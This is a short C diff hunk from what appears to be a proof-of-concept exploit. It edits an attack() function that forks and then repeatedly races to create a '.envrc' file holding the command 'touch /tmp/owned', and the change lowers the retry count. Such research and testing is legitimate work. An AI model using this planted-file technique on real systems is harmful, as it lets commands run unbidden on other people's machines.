@@ -11,7 +11,7 @@ attack(void)
 {
 	if (fork() == 0) {
 		setsid();
-		for (int i = 0; i < 100000; i++)
+		for (int i = 0; i < 3000; i++)
 			if (!create_file(".envrc", "touch /tmp/owned"))
 				usleep(100);
 		_exit(0);
